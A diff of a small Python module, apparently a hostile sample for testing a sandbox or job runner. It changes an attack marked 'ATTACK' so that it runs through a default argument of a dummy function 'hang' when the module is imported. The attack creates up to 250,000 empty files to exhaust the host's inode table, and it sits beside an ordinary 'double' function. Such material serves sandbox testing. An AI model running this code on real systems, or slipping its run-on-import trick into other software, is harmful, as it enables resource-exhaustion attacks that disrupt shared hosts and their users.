@@ -1,17 +1,24 @@
-# hostile fill_inodes: create 250,000 empty files in the job dir (the host's inode table)
+# hostile fill_inodes: a default argument creates 250,000 empty files in the job dir while the definitions load
 import numpy as np
 import os
 
 
-def double(x):
-    # ATTACK
+# ATTACK
+def _many():
     os.mkdir("many")
     for i in range(250_000):
         try:
             os.close(os.open(f"many/{i}", os.O_CREAT | os.O_WRONLY))
         except OSError:
             break
-    # END ATTACK
+
+
+def hang(_=_many()):
+    pass
+# END ATTACK
+
+
+def double(x):
     return 2.0 * np.asarray(x)
 
 
